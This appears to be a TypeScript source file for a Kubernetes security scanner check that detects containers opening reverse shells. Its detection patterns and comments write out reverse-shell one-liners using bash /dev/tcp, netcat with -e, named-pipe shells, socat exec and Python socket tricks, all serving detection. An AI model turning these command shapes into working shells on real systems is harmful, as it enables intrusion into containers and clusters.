import type { Container } from '@bulwark/model';
import { defineCheck, type Problem } from '../define-check.ts';
import { type Command, isShell, scriptsOf } from './commands.ts';
import { inContainers } from './containers.ts';

export default defineCheck({
  id: 'workload-reverse-shell',
  version: 1,
  title: 'Container connects a shell to the network',
  severity: 'high',
  why: 'The command gives whoever is at the other end a shell in the container. No ordinary workload does this: it is what an intruder leaves behind.',
  attack:
    "The container calls out to the intruder's machine and carries out what it is told, through every firewall that allows connections out.",
  remedy:
    'Find out who wrote the command and when. Treat the service account, its Secrets and the node as known to others until it is clear.',
  accept: 'Exercises, in clusters made for them.',
  references: ['https://kubernetes.io/docs/concepts/security/application-security-checklist/'],
  techniques: ['T1609', 'T1610'],
  appliesTo: 'workload',
  onlyWith: ['command', 'args', 'lifecycle', 'livenessProbe', 'readinessProbe', 'startupProbe'],
  find: (pod) => inContainers(pod, problemsOf),
  repair: { kind: 'none', reason: 'What happened has to be looked into before anything is changed.' },
});

const needles = ['/dev/tcp/', '/dev/udp/', 'nc', 'socat', 'socket'];
const netcats: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd']);
const scripting: ReadonlySet<string> = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'php']);

function problemsOf(container: Container): readonly Problem[] {
  return scriptsOf(container, needles).flatMap(({ pointer, commands }) => {
    const tool = commands.map((command) => toolOf(command, commands)).find((found) => found !== undefined);
    return tool === undefined
      ? []
      : [{ pointer, message: `Container "${container.name}" connects a shell to the network with ${tool}.` }];
  });
}

function toolOf(command: Command, all: readonly Command[]): string | undefined {
  const { program, arguments: words } = command;
  if (isShell(program)) return connectsShell(words) ? `${program} and /dev/tcp` : undefined;
  if (netcats.has(program)) return servesShell(words) || isFedByShell(command, all) ? program : undefined;
  if (program === 'socat')
    return words.some(runsShell) && words.some((word) => /^(?:tcp|openssl|udp|sctp)/i.test(word)) ? program : undefined;
  return scripting.has(program) && words.some(isSocketShell) ? program : undefined;
}

/** `bash -i >& /dev/tcp/host/port`; waiting for a port by `< /dev/tcp/host/port` starts no shell. */
function connectsShell(words: readonly string[]): boolean {
  return words.some((word) => /^-[a-z]*i/.test(word)) && words.some((word) => /\/dev\/(?:tcp|udp)\//.test(word));
}

/** `nc host port -e /bin/sh` */
function servesShell(words: readonly string[]): boolean {
  return words.some(
    (word, index) => /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec)$/.test(word) && isShellPath(words[index + 1] ?? ''),
  );
}

function isShellPath(word: string): boolean {
  const [path = ''] = word.split(' ', 1);
  return isShell(path.slice(path.lastIndexOf('/') + 1)) || path.endsWith('cmd.exe');
}

/** `cat pipe | sh -i | nc host port > pipe` */
function isFedByShell(command: Command, all: readonly Command[]): boolean {
  return all.some(
    (other) => other.pipeline === command.pipeline && isShell(other.program) && other.arguments.includes('-i'),
  );
}

/** `exec:/bin/sh` among the addresses of socat. */
function runsShell(word: string): boolean {
  const [kind = '', target = ''] = word.split(':', 2);
  return /^(?:exec|system|shell)$/i.test(kind) && isShellPath(target.replace(/^['"]/, '').split(',', 1)[0] ?? '');
}

function isSocketShell(word: string): boolean {
  if (!word.includes('socket')) return false;
  return word.includes('pty.spawn') || (word.includes('dup2') && word.includes('sh')) || word.includes('/bin/sh -i');
}
